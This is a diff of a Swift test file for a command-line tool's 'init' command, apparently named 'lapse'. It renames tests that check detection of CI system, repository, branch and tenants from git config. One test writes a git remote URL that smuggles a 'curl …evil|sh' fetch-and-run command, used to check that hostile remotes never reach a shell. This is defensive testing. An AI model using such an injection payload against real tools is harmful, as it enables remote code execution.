@@ -58,7 +58,7 @@ extension CommandLineTests {
       }
     }
 
-    @Test func theDirectoryTellsWhichSystemAndWhichRepository() throws {
+    @Test func theDirectoryDeterminesSystemAndRepository() throws {
       try directory.write(
         "clone/.git/config", "[remote \"origin\"]\n\turl = git@github.com:contoso/identity.git\n")
       let run = try initialise()
@@ -69,7 +69,7 @@ extension CommandLineTests {
       #expect(run.output.contains("gh api repos/contoso/identity "))
     }
 
-    @Test func aHostileRemoteIsInNoCommand() throws {
+    @Test func aHostileRemoteNeverReachesACommand() throws {
       try directory.write(
         "clone/.git/config",
         "[remote \"origin\"]\n\turl = https://github.com/a/b';curl${IFS}evil|sh;'\n")
@@ -85,7 +85,7 @@ extension CommandLineTests {
       ("git@gitlab.com:contoso/identity.git", "github"),
       ("https://code.contoso.example/contoso/identity.git", "gitlab"),
     ])
-    func aRepositoryOfAnotherServerIsNotTrusted(remote: String, system: String) throws {
+    func aRepositoryOnAnotherServerIsNotTrusted(remote: String, system: String) throws {
       try directory.write("clone/.git/config", "[remote \"origin\"]\n\turl = \(remote)\n")
       let run = try initialise(system)
       #expect(run.status == 0)
@@ -94,7 +94,7 @@ extension CommandLineTests {
       #expect(!run.output.contains("https://gitlab.com"))
     }
 
-    @Test func groupsAndServersOfGitLabAreNamedWhole() throws {
+    @Test func gitLabGroupsAndServersAreNamedInFull() throws {
       try directory.write(
         "clone/.git/config",
         "[remote \"origin\"]\n\turl = https://gitlab.contoso.example/group/sub/project.git\n")
@@ -105,7 +105,7 @@ extension CommandLineTests {
       #expect(run.output.contains("https://gitlab.contoso.example"))
     }
 
-    @Test func theBranchIsTheDefaultOneElseTheOneThatIsCheckedOutElseMain() throws {
+    @Test func theBranchIsTheDefaultThenTheCheckedOutOneThenMain() throws {
       #expect(try initialise("gitlab").output.contains("ref_type:branch:ref:main"))
       try directory.write("clone/.git/HEAD", "ref: refs/heads/trunk\n")
       #expect(try initialise("gitlab", "--force").output.contains("ref_type:branch:ref:trunk"))
@@ -120,7 +120,7 @@ extension CommandLineTests {
       #expect(try initialise("gitlab", "--force").output.contains("ref_type:branch:ref:main"))
     }
 
-    @Test func whatTheSystemNeedsIsInItsFiles() throws {
+    @Test func theFilesHaveWhatTheSystemNeeds() throws {
       try directory.write("clone/.git/HEAD", "ref: refs/heads/trunk\n")
       func text(_ name: String) throws -> String {
         try String(contentsOfFile: directory.place("clone/\(name)"), encoding: .utf8)
@@ -133,7 +133,7 @@ extension CommandLineTests {
       #expect(try text("lapse.yml").contains("\nhtml: {assets: external}"))
     }
 
-    @Test func manyTenantsShareOneApplicationThatEachConsentsTo() throws {
+    @Test func tenantsShareOneApplicationThatEachConsentsTo() throws {
       for arguments in [["kubernetes"], ["github", "--tenants"]] {
         let run = try Child(
           ["init"] + arguments + ["--force", "--output", directory.place("clone")])
@@ -155,21 +155,21 @@ extension CommandLineTests {
       #expect(try files().filter { $0 != "templates" } == [])
     }
 
-    @Test func forceKeepsWhatPeopleFilledIn() throws {
+    @Test func forceKeepsFilesThatUsersEdit() throws {
       try directory.write("clone/owners.yml", "teams: [{name: Payroll}]")
       #expect(try initialise("github", "--force").status == 0)
       let kept = try String(contentsOfFile: directory.place("clone/owners.yml"), encoding: .utf8)
       #expect(kept == "teams: [{name: Payroll}]")
     }
 
-    @Test func asksNothingOnAPipe() throws {
+    @Test func asksNothingIfInputIsAPipe() throws {
       let run = try initialise()
       #expect(run.status == 2)
       #expect(run.errors.contains("lapse init github|azure-pipelines"))
       #expect(try files() == [])
     }
 
-    @Test func severalSystemsAreNoAnswer() throws {
+    @Test func severalDetectedSystemsAreWrongUsage() throws {
       try directory.write("clone/Jenkinsfile", "")
       try directory.write("clone/.gitlab-ci.yml", "")
       #expect(try initialise().status == 2)
